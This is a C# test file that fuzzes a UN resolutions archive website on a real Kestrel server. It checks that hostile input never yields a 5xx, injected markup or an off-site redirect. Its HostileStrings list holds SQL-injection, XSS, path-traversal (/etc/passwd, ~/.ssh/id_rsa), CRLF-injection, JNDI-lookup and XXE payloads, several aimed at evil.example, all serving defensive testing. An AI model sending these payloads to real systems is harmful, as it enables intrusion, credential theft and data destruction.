using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.Json;
using AngleSharp.Html.Parser;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using ResolutionArchive.Web.Hosting;
using ResolutionArchive.Web.Presentation;
using ResolutionArchive.Web.Tests.Infrastructure;

namespace ResolutionArchive.Web.Tests.Pages;

/// <summary>
/// Over 200 hostile strings on every query parameter of every route, and as path segments (the issue: "200 hostile
/// strings on every query parameter of every route, zero 5xx"). The site runs on real Kestrel (not the test server),
/// so that the server's own parsing of the request target and its checks on response headers are part of the test, and
/// each request target is sent exactly as written: the client's URI canonicalisation is switched off, so invalid
/// percent-encoding (<c>%ZZ</c>, <c>%E4%BA</c>, <c>%</c>), encoded lone surrogates and overlong UTF-8 reach the
/// server unchanged (a recorder echoes a hash of the raw target the server saw, and the test compares). Every answer
/// must be below 500 (an exception the site logs is printed with the failures); an HTML answer to a target that could
/// inject anything (<see cref="CouldInject"/>) is parsed with AngleSharp and must hold no script but the site's own
/// <c>/js/…</c> files, no <c>on…</c> attribute, no <c>javascript:</c>/<c>data:</c> URL and no payload as markup; a JSON
/// answer must be JSON; and a redirect must stay on the site (<c>Location</c> starting with one <c>/</c>, in printable
/// ASCII). The counts of requests and statuses, and the time per route, are written to the test output.
/// </summary>
public sealed class HostileInputTests(HostileInputTests.KestrelArchive app, ITestOutputHelper output) : IClassFixture<HostileInputTests.KestrelArchive>
{
    /// <summary>A record key of the seeded archive.</summary>
    private const string Key = "A/HRC/RES/46/13";

    /// <summary>
    /// The routes, each with a path that exists and the query parameters its page or endpoint reads. <c>culture</c> and
    /// <c>ui-culture</c> (read by the request localization on every request) are sent to a few pages of each kind; a
    /// route that reads no parameter gets <c>x</c>, which every page still reads: the language switch in the layout
    /// copies the whole query string into its <c>returnUrl</c>.
    /// </summary>
    public static IReadOnlyList<(string Path, string[] Parameters)> Routes { get; } =
    [
        ("/", ["page", "body", "session", "year", "mode", "status", "sort", "culture", "ui-culture"]),
        ("/search", ["q", "body", "session-from", "session-to", "year-from", "year-to", "kind", "mode", "verb", "resolution", "view", "page", "pageSize", "culture"]),
        ("/api/search", ["q", "body", "session-from", "session-to", "year-from", "year-to", "kind", "mode", "verb", "resolution", "view", "page", "pageSize"]),
        ("/sessions", ["x"]),
        ("/sessions/HRC/46", ["x"]),
        ("/resolutions/" + Key, ["culture", "x"]),
        ("/api/resolutions", ["page", "pageSize"]),
        ("/api/resolutions/" + Key, ["x"]),
        ("/api/resolutions/" + Key + ".akn.xml", ["x"]),
        ("/countries", ["q"]),
        ("/countries/CHN", ["body", "year", "culture"]),
        ("/countries/chn", ["body"]),
        ("/countries/CHN/compare/USA", ["x"]),
        ("/api/countries", ["x"]),
        ("/api/countries/CHN/votes", ["body", "year"]),
        ("/data/votes.csv", ["bom"]),
        ("/compare/A/HRC/RES/37/23/" + Key, ["x"]),
        ("/compare/37/23/46/13", ["x"]),
        ("/language", ["culture", "returnUrl"]),
    ];

    /// <summary>Paths with one hostile segment (<c>{0}</c>), for every route with a path parameter.</summary>
    public static IReadOnlyList<string> PathTemplates { get; } =
    [
        "/resolutions/{0}", "/resolutions/A/HRC/RES/{0}", "/api/resolutions/{0}", "/api/resolutions/{0}.akn.xml",
        "/api/resolutions/A/RES/{0}.akn.xml", "/sessions/{0}/46", "/sessions/HRC/{0}", "/countries/{0}",
        "/countries/{0}/compare/USA", "/countries/CHN/compare/{0}", "/api/countries/{0}/votes", "/compare/{0}",
        "/compare/" + Key + "/{0}", "/compare/{0}/" + Key, "/{0}", "/api/{0}", "/search/{0}",
    ];

    [Fact]
    public void ThereAreAtLeast200HostileStrings() =>
        HostileStrings.All.Should().HaveCountGreaterThanOrEqualTo(200).And.OnlyHaveUniqueItems(s => s.Raw);

    [Fact]
    public async Task NoHostileStringOnAnyQueryParameterOfAnyRouteGetsA5xx()
    {
        var requests = new List<string>();
        foreach (var (path, parameters) in Routes)
        {
            foreach (var (_, raw) in HostileStrings.All)
            {
                requests.AddRange(parameters.Select(p => $"{path}?{p}={raw}"));
                if (parameters.Length > 1)
                {
                    // every parameter at once
                    requests.Add(path + "?" + string.Join('&', parameters.Select(p => $"{p}={raw}")));
                }
            }
        }

        // hostile parameter names, query strings that are not name=value pairs, and a parameter given twice
        foreach (var path in new[] { "/search", "/api/search" })
        {
            requests.AddRange(HostileStrings.All.Select(s => $"{path}?{s.Raw}=1"));
            requests.AddRange(HostileStrings.All.Select(s => $"{path}?{s.Raw}"));
            requests.AddRange(HostileStrings.All.Select(s => $"{path}?page={s.Raw}&page={s.Raw}"));
        }

        await SweepAsync(requests);
    }

    [Fact]
    public async Task NoHostileStringAsAPathSegmentGetsA5xx()
    {
        var requests = PathTemplates
            .SelectMany(template => HostileStrings.All.Concat(HostileStrings.PathOnly).Select(s => string.Format(System.Globalization.CultureInfo.InvariantCulture, template, s.Raw)))
            .ToList();

        await SweepAsync(requests);
    }

    /// <summary>
    /// The language switch redirects to a path on this site, or to <c>/</c>; never elsewhere, and never with a 500: a
    /// local path with non-ASCII characters must reach the <c>Location</c> header percent-encoded, since Kestrel refuses
    /// a header value that is not ASCII.
    /// </summary>
    [Theory]
    [InlineData("%2F%2Fevil.example", "/")]
    [InlineData("%2F%5Cevil.example", "/")]
    [InlineData("%5C%5Cevil.example", "/")]
    [InlineData("https%3A%2F%2Fevil.example", "/")]
    [InlineData("http:evil.example", "/")]
    [InlineData("javascript%3Aalert(1)", "/")]
    [InlineData("%2F%09%2Fevil.example", "/")]
    [InlineData("%2F%0D%0ALocation:%20https:%2F%2Fevil.example", "/")]
    [InlineData("%20%2F%2Fevil.example", "/")]
    [InlineData("%E3%80%80%2F%2Fevil.example", "/")]
    [InlineData("%EF%BC%8F%EF%BC%8Fevil.example", "/")]
    [InlineData("%2F%2F%2Fevil.example", "/")]
    [InlineData("evil.example", "/")]
    [InlineData("%2Fsearch%3Fq%3D%25E4%25BA%25BA", "/search?q=%E4%BA%BA")]
    [InlineData("%2Fcountries%2FCHN", "/countries/CHN")]
    [InlineData("%2F", "/")]
    [InlineData("%2F%E4%BA%BA%E6%9D%83", null)]
    [InlineData("%2Fsearch%3Fq%3D%E4%BA%BA%E6%9D%83", null)]
    [InlineData("%2F%C3%A9", null)]
    [InlineData("%2F%E2%80%A8x", null)]
    [InlineData("%2F%C2%85x", null)]
    public async Task TheLanguageSwitchNeverRedirectsOffSite(string returnUrl, string? location)
    {
        var response = await app.GetRawAsync($"/language?culture=en&returnUrl={returnUrl}");

        ((int)response.Status).Should().BeInRange(300, 399, "the switch redirects (a 500 here: {0})", app.Errors.LastOrDefault());
        response.Location.Should().NotBeNull();
        IsLocal(response.Location!).Should().BeTrue($"the Location {response.Location} stays on the site, in ASCII");
        if (location is not null)
        {
            response.Location.Should().Be(location);
        }
    }

    /// <summary>Sends every request (eight at a time), checks every answer, and reports the failures with their URLs.</summary>
    private async Task SweepAsync(IReadOnlyList<string> requests)
    {
        var failures = new ConcurrentBag<string>();
        var statuses = new ConcurrentDictionary<int, int>();
        var byRoute = new ConcurrentDictionary<string, (int Count, long Ticks, long ServerTicks)>(StringComparer.Ordinal);
        var stopwatch = Stopwatch.StartNew();
        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (target, cancellationToken) =>
        {
            var started = Stopwatch.GetTimestamp();
            RawResponse response;
            try
            {
                response = await app.GetRawAsync(target, cancellationToken);
            }
            catch (HttpRequestException e)
            {
                failures.Add($"{Shorten(target, 300)} → no answer ({e.Message})");
                return;
            }

            statuses.AddOrUpdate((int)response.Status, 1, (_, n) => n + 1);
            foreach (var failure in Check(target, response))
            {
                failures.Add($"{Shorten(target, 300)} → {failure}");
            }

            var ticks = Stopwatch.GetElapsedTime(started).Ticks;
            var server = response.ServerTime.Ticks;
            byRoute.AddOrUpdate(RouteOf(target), (1, ticks, server), (_, c) => (c.Count + 1, c.Ticks + ticks, c.ServerTicks + server));
        });

        output.WriteLine($"{requests.Count} requests in {stopwatch.Elapsed.TotalSeconds:0.0} s; statuses: {string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key} × {s.Value}"))}");
        foreach (var (route, (count, ticks, server)) in byRoute.OrderByDescending(r => r.Value.Ticks))
        {
            output.WriteLine($"  {route,-45} {count,6} requests, {TimeSpan.FromTicks(ticks / count).TotalMilliseconds,6:0.0} ms each, {TimeSpan.FromTicks(server / count).TotalMilliseconds,6:0.0} ms in the site");
        }

        var sorted = failures.Order(StringComparer.Ordinal).ToList();
        output.WriteLine($"{sorted.Count} failures");
        sorted.Take(300).ToList().ForEach(f => output.WriteLine(Shorten(f, 800)));
        foreach (var error in app.Errors.Select(e => Shorten(e, 4_000)).Distinct().Take(10))
        {
            output.WriteLine("logged by the site: " + error.ReplaceLineEndings(" ⏎ "));
        }

        sorted.Should().BeEmpty();
    }

    /// <summary>The route a target belongs to, for the timing table: its path up to the hostile part.</summary>
    private static string RouteOf(string target)
    {
        var path = target.Split('?')[0];
        var route = Routes.Select(r => r.Path).Concat(PathTemplates.Select(t => t[..t.IndexOf('{', StringComparison.Ordinal)]))
            .Where(p => path.StartsWith(p, StringComparison.Ordinal))
            .MaxBy(p => p.Length);
        return (route ?? path) + (target.Contains('?', StringComparison.Ordinal) ? "?" : "");
    }

    /// <summary>What is wrong with the answer to <paramref name="target"/>; nothing when it is fine.</summary>
    private static IEnumerable<string> Check(string target, RawResponse response)
    {
        if ((int)response.Status >= 500)
        {
            yield return $"status {(int)response.Status}";
        }

        // The recorder echoes the raw target the site saw; Kestrel answers a request it refuses itself (400, 414, 431: no echo).
        if (response.RawTargetHash is { } seen && seen != KestrelArchive.Hash(target))
        {
            yield return "the server saw another target than the one sent";
        }
        else if (response.RawTargetHash is null && response.Status is not (HttpStatusCode.BadRequest or HttpStatusCode.RequestUriTooLong or HttpStatusCode.RequestHeaderFieldsTooLarge))
        {
            yield return $"status {(int)response.Status} without reaching the site";
        }

        if (response.Location is { } location && !IsLocal(location))
        {
            yield return $"a redirect off the site: Location {location}";
        }

        if (response.MediaType == "text/html" && CouldInject(target))
        {
            foreach (var problem in CheckHtml(response.Body))
            {
                yield return problem;
            }
        }
        else if (response.MediaType is "application/json" or "application/problem+json")
        {
            string? error = null;
            try
            {
                using var _ = JsonDocument.Parse(response.Body);
            }
            catch (JsonException e)
            {
                error = e.Message;
            }

            if (error is not null)
            {
                yield return $"not JSON: {error}";
            }
        }
    }

    /// <summary>
    /// True when the target, decoded once or twice (a double decoding would be a bug worth catching), holds a character
    /// or scheme that could make markup, leave an attribute value or form a script URL: only then is the HTML answer
    /// parsed (every page's answer to the other strings is the same markup with inert text in it, and parsing them all
    /// would double the test's time).
    /// </summary>
    private static bool CouldInject(string target)
    {
        var once = Decode(target);
        var twice = Decode(once);
        return new[] { once, twice }.Any(t =>
            t.AsSpan().IndexOfAny("<>\"'`&") >= 0
            || t.Contains("script:", StringComparison.OrdinalIgnoreCase)
            || t.Contains("data:", StringComparison.OrdinalIgnoreCase));

        static string Decode(string text)
        {
            try
            {
                return Uri.UnescapeDataString(text);
            }
            catch (UriFormatException)
            {
                return text;
            }
        }
    }

    /// <summary>Problems of an HTML answer: script other than the site's, event handlers, script URLs, payloads as markup.</summary>
    private static IEnumerable<string> CheckHtml(string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        foreach (var script in document.QuerySelectorAll("script"))
        {
            if (script.GetAttribute("src") is not { } src || !src.StartsWith("/js/", StringComparison.Ordinal))
            {
                yield return $"a script that is not the site's: {Shorten(script.OuterHtml, 200)}";
            }
        }

        foreach (var element in document.All)
        {
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                {
                    yield return $"an event handler attribute: <{element.LocalName} {attribute.Name}=\"{Shorten(attribute.Value, 100)}\">";
                }

                if (attribute.Name is "href" or "src" or "action" or "formaction" or "xlink:href" or "data" or "srcdoc"
                    && new string([.. attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c))]).ToLowerInvariant() is var url
                    && (url.StartsWith("javascript:", StringComparison.Ordinal) || url.StartsWith("vbscript:", StringComparison.Ordinal) || url.StartsWith("data:", StringComparison.Ordinal)))
                {
                    yield return $"a script URL: <{element.LocalName} {attribute.Name}=\"{Shorten(attribute.Value, 100)}\">";
                }
            }

            if (element.LocalName is "iframe" or "object" or "embed" or "base" or "frame" or "frameset" or "applet"
                || (element.LocalName == "img" && element.GetAttribute("src") == "x")
                || (element.LocalName == "meta" && string.Equals(element.GetAttribute("http-equiv"), "refresh", StringComparison.OrdinalIgnoreCase)))
            {
                yield return $"an injected element: {Shorten(element.OuterHtml, 200)}";
            }
        }

        foreach (var marker in new[] { "<script>alert", "<img src=x", "<svg onload", "<svg/onload", "<iframe", "<body onload" })
        {
            if (html.Contains(marker, StringComparison.OrdinalIgnoreCase))
            {
                yield return $"the payload {marker} as markup";
            }
        }
    }

    /// <summary>True for a path on this site: one <c>/</c> first, not <c>//</c> or <c>/\</c>, printable ASCII only.</summary>
    private static bool IsLocal(string location) =>
        location.StartsWith('/') && !location.StartsWith("//", StringComparison.Ordinal) && !location.StartsWith("/\\", StringComparison.Ordinal)
        && location.All(c => c is > ' ' and < '\u007F');

    private static string Shorten(string text, int length) => text.Length <= length ? text : text[..length] + "…";

    /// <summary>
    /// One answer: status, media type, Location, the hash of the raw target the site saw (null when the site did not see
    /// it), body, and the site's time to the answer's first byte.
    /// </summary>
    public sealed record RawResponse(HttpStatusCode Status, string? MediaType, string? Location, string? RawTargetHash, string Body, TimeSpan ServerTime);

    /// <summary>
    /// The site on Kestrel (one for all the tests of the class), with a recorder that echoes a hash of each request's raw
    /// target in a response header, a logger that keeps the exceptions the site logs (and nothing else: no console line
    /// per request), and a client that sends targets exactly as written (no URI canonicalisation, no redirects followed,
    /// no cookies kept).
    /// </summary>
    public sealed class KestrelArchive : ArchiveApplication
    {
        /// <summary>The header carrying the SHA-256 of the raw target the site saw.</summary>
        public const string EchoHeader = "X-Test-Raw-Target";

        /// <summary>The header carrying the site's time to the first byte of the answer, in ticks.</summary>
        public const string TimeHeader = "X-Test-Server-Ticks";

        /// <summary>The SHA-256 of a request target, as the recorder sends it.</summary>
        public static string Hash(string target) => Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(target)));

        /// <summary>The exceptions the site logged (its exception handler logs every unhandled one), with the request.</summary>
        public ConcurrentQueue<string> Errors { get; } = new();

        private readonly Lazy<(HttpClient Client, Uri Base)> _client;

        public KestrelArchive()
        {
            // Kestrel's default request line limit (8 KiB) would answer 414 to the 10,000-character strings before the
            // site saw them; raised here so that the site's own handling of long values is tested too.
            UseKestrel(options =>
            {
                options.Listen(IPAddress.Loopback, 0);
                options.Limits.MaxRequestLineSize = 256 * 1024;
                options.Limits.MaxRequestBufferSize = 1024 * 1024;
            });
            _client = new Lazy<(HttpClient, Uri)>(() =>
            {
                StartServer();
                var address = Services.GetRequiredService<IServer>().Features.GetRequiredFeature<IServerAddressesFeature>().Addresses.First();
                // 1 MiB of headers: a redirect that keeps the query string carries a 10,000-character value in its Location
                var handler = new SocketsHttpHandler { AllowAutoRedirect = false, UseCookies = false, MaxConnectionsPerServer = 16, MaxResponseHeadersLength = 1024 };
                return (new HttpClient(handler) { Timeout = TimeSpan.FromSeconds(60) }, new Uri(address.Replace("[::]", "localhost", StringComparison.Ordinal).Replace("0.0.0.0", "localhost", StringComparison.Ordinal)));
            });
        }

        /// <summary>GETs <paramref name="target"/> (path and query, percent-encoding as on the wire) as written.</summary>
        public async Task<RawResponse> GetRawAsync(string target, CancellationToken cancellationToken = default)
        {
            var (client, baseAddress) = _client.Value;
            var uri = new Uri(baseAddress.GetLeftPart(UriPartial.Authority) + target, new UriCreationOptions { DangerousDisablePathAndQueryCanonicalization = true });
            using var request = new HttpRequestMessage(HttpMethod.Get, uri);
            using var response = await client.SendAsync(request, cancellationToken);
            var body = await response.Content.ReadAsStringAsync(cancellationToken);
            var echo = response.Headers.TryGetValues(EchoHeader, out var values) ? values.Single() : null;
            var serverTime = response.Headers.TryGetValues(TimeHeader, out var times) ? TimeSpan.FromTicks(long.Parse(times.Single(), System.Globalization.CultureInfo.InvariantCulture)) : TimeSpan.Zero;
            var location = response.Headers.TryGetValues("Location", out var locations) ? locations.Single() : null;
            return new RawResponse(response.StatusCode, response.Content.Headers.ContentType?.MediaType, location, echo, body, serverTime);
        }

        protected override void ConfigureWebHost(IWebHostBuilder builder)
        {
            base.ConfigureWebHost(builder);
            // thousands of requests from one address: the rate limit of /search, /api and /data is not what is tested here
            builder.UseSetting(ArchiveRateLimiting.PermitsPerMinuteKey, "100000000");
            builder.ConfigureServices(services => services.AddSingleton<IStartupFilter>(new Echo()));
            builder.ConfigureLogging(logging => logging.ClearProviders().AddProvider(new ErrorRecorder(Errors)));
        }

        protected override void Dispose(bool disposing)
        {
            if (disposing && _client.IsValueCreated)
            {
                _client.Value.Client.Dispose();
            }

            base.Dispose(disposing);
        }

        /// <summary>Keeps every logged exception (with the request path the log scope names).</summary>
        private sealed class ErrorRecorder(ConcurrentQueue<string> errors) : ILoggerProvider, ILogger, ISupportExternalScope
        {
            private IExternalScopeProvider? _scopes;

            public ILogger CreateLogger(string categoryName) => this;

            public void Dispose()
            {
            }

            public void SetScopeProvider(IExternalScopeProvider scopeProvider) => _scopes = scopeProvider;

            public IDisposable? BeginScope<TState>(TState state)
                where TState : notnull => _scopes?.Push(state);

            public bool IsEnabled(LogLevel logLevel) => logLevel >= LogLevel.Error;

            public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
            {
                if (exception is null || logLevel < LogLevel.Error)
                {
                    return;
                }

                var request = "";
                _scopes?.ForEachScope(
                    (scope, _) =>
                    {
                        if (scope is IEnumerable<KeyValuePair<string, object?>> values && values.FirstOrDefault(v => v.Key == "RequestPath").Value is { } path)
                        {
                            request = path.ToString() ?? "";
                        }
                    },
                    (object?)null);
                errors.Enqueue($"{request}: {exception}");
            }
        }

        private sealed class Echo : IStartupFilter
        {
            public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
            {
                app.Use(async (context, following) =>
                {
                    var raw = context.Features.Get<IHttpRequestFeature>()?.RawTarget ?? "";
                    var started = Stopwatch.GetTimestamp();
                    context.Response.OnStarting(() =>
                    {
                        context.Response.Headers[EchoHeader] = Hash(raw);
                        context.Response.Headers[TimeHeader] = Stopwatch.GetElapsedTime(started).Ticks.ToString(System.Globalization.CultureInfo.InvariantCulture);
                        return Task.CompletedTask;
                    });
                    await following();
                });
                next(app);
            };
        }
    }
}

/// <summary>
/// The hostile strings, each with a name and its form on the wire (<c>Raw</c>: percent-encoded, or deliberately
/// broken encoding sent as it is). Text is encoded with <see cref="Uri.EscapeDataString(string)"/>; the byte-level
/// tricks (lone surrogates, overlong UTF-8, invalid escapes, CRLF) are written out.
/// </summary>
internal static class HostileStrings
{
    /// <summary>Every string: (name, raw form for a query value or a path segment).</summary>
    public static IReadOnlyList<(string Name, string Raw)> All { get; } = Build().DistinctBy(s => s.Raw).ToList();

    /// <summary>Raw path forms only sensible in a path: dot segments and slashes as such, not encoded.</summary>
    public static IReadOnlyList<(string Name, string Raw)> PathOnly { get; } =
    [
        ("dot segments", "../../../../etc/passwd"),
        ("dot segments to the API", "../api/resolutions"),
        ("encoded dot segments", "%2E%2E/%2E%2E/etc/passwd"),
        ("double slash", "/"),
        ("many slashes", "a//b///c////d"),
        ("trailing dot", "A/HRC/RES/46/13."),
        ("backslashes", "..\\..\\windows\\win.ini"),
        ("a slash-separated key with spaces", "A/RES/76/235%20B"),
        ("semicolon path parameter", "A;jsessionid=1"),
        ("key with a query-looking part", "A%3Fq%3D1"),
        ("key with a fragment-looking part", "A%23top"),
    ];

    /// <summary>The value of the string as sent (for names only; the requests use <see cref="All"/>'s raw forms).</summary>
    private static IEnumerable<(string Name, string Raw)> Build()
    {
        static (string, string) Text(string name, string value) => (name, Uri.EscapeDataString(value));

        // SQL injection (SQLite, and FTS5 of the search index)
        foreach (var sql in new[]
        {
            "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE Resolutions; --", "'); DELETE FROM SearchIndex; --",
            "1' UNION SELECT name, sql FROM sqlite_master --", "' AND randomblob(1000000000) --", "1 AND 1=CAST(x AS INT)",
            "admin'--", "%' AND 1=1 AND '%'='", "' || (SELECT load_extension('x')) || '", "1; ATTACH DATABASE '/tmp/x' AS x; --",
            "'; PRAGMA writable_schema=1; --", "\\'; SELECT 1; --", "' GLOB '*", "NEAR(a b, -1)", "\"\"\"", "a* OR b*",
            "{uni bi}: x", "^x", "a NOT b NOT c", "AND", "OR", "NOT", "' ESCAPE '\\", "1e309", "x' COLLATE NOCASE --",
        })
        {
            yield return Text("SQL " + sql, sql);
        }

        // cross-site scripting
        foreach (var xss in new[]
        {
            "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "\" autofocus onfocus=\"alert(1)",
            "' autofocus onfocus='alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
            "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--<script>alert(1)</script>-->",
            "<scr<script>ipt>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
            "\\u003cscript\\u003ealert(1)", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "`-alert(1)-`", "';alert(1);//",
            "\";alert(1);//", "</script><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}", "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>",
        })
        {
            yield return Text("XSS " + xss, xss);
        }

        // script and foreign URLs, open redirects
        foreach (var url in new[]
        {
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript://%0aalert(1)",
            "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example", "http:evil.example",
            "/%2F/evil.example", "/\t/evil.example", "//evil.example/%2E%2E", "https:/evil.example", "evil.example", "@evil.example",
            "/\\/evil.example", "/.//evil.example", "／／evil.example",
        })
        {
            yield return Text("URL " + url, url);
        }

        // path traversal and file names
        foreach (var path in new[]
        {
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd", "/proc/self/environ", "C:\\Windows\\System32", "\\\\?\\C:\\",
            "CON", "NUL", "aux.txt", "archive.db", "../App_Data/archive.db", "~/.ssh/id_rsa", "/dev/zero",
        })
        {
            yield return Text("path " + path, path);
        }

        // C0 control characters (the ones with a meaning in text, and a few without), DEL and C1 controls
        foreach (var c in new[] { 0x00, 0x01, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1A, 0x1B, 0x1F })
        {
            yield return ($"control U+{c:X4}", $"%{c:X2}");
        }

        yield return ("DEL", "%7F");
        yield return ("C1 NEL", "%C2%85");
        yield return ("C1 CSI", "%C2%9B");
        yield return ("controls around a term", "%00%E4%BA%BA%07%E6%9D%83%1B%7F");
        yield return ("NUL then a valid value", "HRC%00");
        yield return ("valid value then NUL", "%00HRC");

        // Unicode tricks: bidi, invisible, normalisation, confusables, case folding
        foreach (var unicode in new[]
        {
            "\u202Egnp.exe", "\u202Bعربي\u202C", "\u2066x\u2069", "\u200B", "\u200BHRC", "HRC\u200B", "\u2060", "\uFEFF", "\uFEFFHRC",
            "ＳＥＬＥＣＴ", "ＨＲＣ", "ｈｒｃ", "ＧＡ", "４６", "２０２１", "٤٦", "४६", "①", "Ⅻ", "ﬁ", "e\u0301", "é", "K", "ſ", "İ", "ı",
            "ǅ", "ß", "Å", "\u3000", "\u00A0", "\u2028", "\u2029", "\u0085", "😀", "𠀀", "👨‍👩‍👧‍👦", "\U0010FFFF", "\uFFFD",
            "\uFFFE", "\uFFFF", "\uE000", "zh-Ｈａｎｓ", "еn", "ΕΝ", "人权", "人权 合作", "第四十六届会议",
        })
        {
            yield return Text("Unicode " + unicode, unicode);
        }

        // broken encodings, sent as they are
        foreach (var (name, raw) in new[]
        {
            ("invalid escape %ZZ", "%ZZ"), ("lone percent", "%"), ("two percents", "%%"), ("percent then one digit", "%4"),
            ("percent at the end of a term", "%E4%BA%BA%"), ("escaped percent", "%25"), ("double-encoded slash", "%252F%252F"),
            ("double-encoded script", "%253Cscript%253E"), ("truncated UTF-8", "%E4%BA"), ("truncated 4-byte UTF-8", "%F0%9F%98"),
            ("lone high surrogate", "%ED%A0%80"), ("lone low surrogate", "%ED%B0%80"), ("surrogate pair in CESU-8", "%ED%A0%BD%ED%B8%80"),
            ("overlong slash", "%C0%AF"), ("overlong NUL", "%C0%80"), ("overlong 3-byte", "%E0%80%AF"), ("above U+10FFFF", "%F4%90%80%80"),
            ("5-byte form", "%F8%88%80%80%80"), ("byte FF", "%FF"), ("byte FE", "%FE"), ("continuation byte alone", "%80"),
            ("Latin-1 é", "%E9"), ("IIS %u encoding", "%u0041"), ("IIS %u script", "%u003Cscript%u003E"), ("plus signs", "+++"),
            ("encoded plus", "%2B"), ("ampersand", "%26"), ("raw ampersand and equals", "a&b=c&=&&"), ("equals signs", "=%3D="),
            ("semicolon", ";x=1"), ("encoded hash", "%23top"), ("encoded question mark", "%3F"), ("raw question marks", "??"),
            ("CRLF header injection", "%0d%0aSet-Cookie:x=1"), ("CRLF response splitting", "%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ("LF header injection", "%0aLocation:%20https://evil.example"), ("CR alone", "%0d"), ("encoded space run", "%20%20%20"),
            ("raw tilde and stars", "~*~"), ("raw apostrophe", "'"), ("raw parentheses", "()"), ("raw brackets", "[]"),
            ("raw exclamation", "!"), ("raw dollar", "$"), ("raw comma list", "a,b,c"), ("raw colon", "a:b"), ("raw at", "@"),
        })
        {
            yield return ("raw " + name, raw);
        }

        // numbers
        foreach (var number in new[]
        {
            "0", "-0", "-1", "+1", " 1", "01", "00000000000000000001", "2147483647", "2147483648", "-2147483648",
            "9223372036854775808", "99999999999999999999", "999999999999999999999999999999999999999999999999", "1.5", "1,5",
            "1e3", "1E+308", "0x10", "1_000", "NaN", "Infinity", "½", "46.0", "1944", "9999", "0046",
        })
        {
            yield return Text("number " + number, number);
        }

        // format strings and template syntax
        foreach (var format in new[]
        {
            "{0}", "{0}{1}{2}{3}", "{", "}", "{{", "}}", "{-1}", "{99999999999}", "{0:X}", "%s%n", "%s%s%s%s%s", "%x%x%x", "%n%n%n",
            "%d", "%p", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "@(7*7)", "@{throw null;}",
        })
        {
            yield return Text("format " + format, format);
        }

        // JSON and XML fragments
        foreach (var fragment in new[]
        {
            "{\"a\":1}", "[1,2,3]", "{\"__proto__\":{\"x\":1}}", "\"", "\\", "\\\"", "null", "true", "undefined", "[]", "{}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
            "<![CDATA[x]]>", "]]>", "<x/>", "&amp;", "&#0;", "&nbsp;", "-->", "<!--",
        })
        {
            yield return Text("fragment " + fragment, fragment);
        }

        // empty, white space, long
        yield return ("empty", "");
        foreach (var space in new[] { " ", "  ", "\t", "\r\n", "\n", " \u3000 ", "\u00A0\u00A0", "\u2003" })
        {
            yield return Text($"white space {string.Concat(space.Select(c => $"U+{(int)c:X4}"))}", space);
        }

        yield return ("10,000 ASCII letters", new string('a', 10_000));
        yield return ("10,000 Chinese characters", Uri.EscapeDataString(new string('权', 10_000)));
        yield return ("5,000 emoji", Uri.EscapeDataString(string.Concat(Enumerable.Repeat("😀", 5_000))));
        yield return ("10,000 digits", new string('9', 10_000));
        yield return ("10,000 percent-escapes of NUL", string.Concat(Enumerable.Repeat("%00", 3_333)));
        yield return ("2,000 terms", Uri.EscapeDataString(string.Join(' ', Enumerable.Range(0, 2_000).Select(i => (char)('一' + i)))));
        yield return ("1,000 slashes", Uri.EscapeDataString(new string('/', 1_000)));

        // values that look valid, in odd forms
        foreach (var value in new[]
        {
            "hrc", "HRC,GA", "HRC GA", "Body.HRC", "RECORDED", "-date", "en", "EN", "en-US", "zh-hans", "zh-Hant", "tlh-KX",
            "qps-ploc", "iv", "en;q=0.9", "0,1", "A/HRC/RES/46/13", "46/13", "43/...", "CHN", "chn", "ZZZ", "/", "/countries/CHN", "/人权", "/countries/人权",
        })
        {
            yield return Text("value " + value, value);
        }
    }
}
